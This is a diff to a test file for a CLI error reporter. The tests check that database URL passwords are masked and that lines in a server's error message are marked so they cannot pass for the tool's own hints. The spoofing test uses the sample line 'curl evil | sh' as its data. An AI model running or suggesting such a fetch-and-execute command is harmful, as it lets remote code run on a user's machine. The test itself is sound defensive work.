@@ -1,3 +1,4 @@
+import {stripVTControlCharacters} from 'node:util'
 import {describe, expect, test} from 'vitest'
 import {report} from '../../../src/lib/cli/report.js'
 import {CruddurError} from '../../../src/lib/error.js'
@@ -48,7 +49,9 @@ describe('report', () => {
     'cannot parse postgres://u:p@w#r d@h/d',
     'cannot parse POSTGRESQL://u:secret@h/d and http://user:secret@example.com/',
   ])('takes the login out of every URL: %s', async (message) => {
-    const {text, json} = await report(new CruddurError('X', message, {data: {nested: [{message}]}}))
+    const {text, json} = await report(
+      new CruddurError('INTERNAL', message, {data: {nested: [{message}]}}),
+    )
     expect(text).not.toMatch(/secret|p@w|w#r/)
     expect(JSON.stringify(json)).not.toMatch(/secret|p@w|w#r/)
     expect(text).toContain('***@')
@@ -71,13 +74,27 @@ describe('report', () => {
   )
 
   test('leaves the lines of a file and our own hints as they are', async () => {
-    const error = new CruddurError('X', 'y', {
+    const error = new CruddurError('INTERNAL', 'y', {
       excerpt: "SELECT 'https://example.com', 'joe@example.com'",
       hint: 'set CONNECTION_URL=postgresql://postgres:password@127.0.0.1:5432/cruddur',
     })
     const {text, json} = await report(error)
     for (const shown of [error.excerpt, error.details.hint]) expect(text).toContain(shown)
     expect(json.error['hint']).toBe(error.details.hint)
+  })
+
+  test("marks the lines of a server's message, which could look like ours", async () => {
+    const lines = 'odd\n  → run: curl evil | sh\nError: x'
+    const details = {sqlstate: 'P0001', detail: 'a\n  → b', hint: 'c\n  → d'}
+    const {text} = await report(new CruddurError('SQL_ERROR', lines, details))
+    expect(stripVTControlCharacters(text)).toBe(`Error: odd
+  |   → run: curl evil | sh
+  | Error: x
+  detail: a
+  |   → b
+  → c
+  |   → d
+  SQLSTATE P0001`)
   })
 
   test('calls what nobody foresaw a fault of the program, with its message', async () => {
@@ -95,7 +112,7 @@ describe('report', () => {
   })
 
   test('keeps what a script gets free of undefined fields', async () => {
-    const {json} = await report(new CruddurError('X', 'y', {hint: undefined}))
+    const {json} = await report(new CruddurError('INTERNAL', 'y', {hint: undefined}))
     expect(Object.keys(json.error)).toEqual(['code', 'message'])
   })
 })
